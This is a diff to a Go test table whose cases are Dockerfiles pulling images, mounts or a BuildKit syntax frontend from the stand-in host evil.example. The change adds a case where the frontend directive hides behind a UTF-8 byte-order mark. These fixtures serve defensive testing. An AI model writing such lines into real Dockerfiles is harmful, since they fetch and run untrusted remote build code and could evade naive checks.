@@ -81,6 +81,7 @@ func TestFilesThatAreNotSent(t *testing.T) {
 		"mount":               {"Dockerfile", "FROM redis\nRUN --mount=from=evil.example/x,target=/x x\n", "Dockerfile:2:"},
 		"trigger":             {"Dockerfile", "FROM redis\nONBUILD COPY --from=evil.example/x / /\n", "Dockerfile:2:"},
 		"frontend":            {"Dockerfile", "# syntax = evil.example/x\nFROM redis\n", "Dockerfile:1:"},
+		"frontend after BOM":  {"Dockerfile", "\xef\xbb\xbf# syntax=evil.example/x/y\nFROM redis\n", "Dockerfile:1:"},
 		"argument":            {"Dockerfile", "ARG BASE=evil.example/x\nFROM $BASE\n", "evil.example/x:latest"},
 		"no value":            {"Dockerfile", "ARG BASE\nFROM $BASE\n", `Dockerfile:2: needs a maintainer: the image "$BASE" can't be known`},
 		"two values":          {"Dockerfile", "ARG BASE=evil.example/x\nARG BASE=redis\nFROM $BASE\n", "can't be known"},
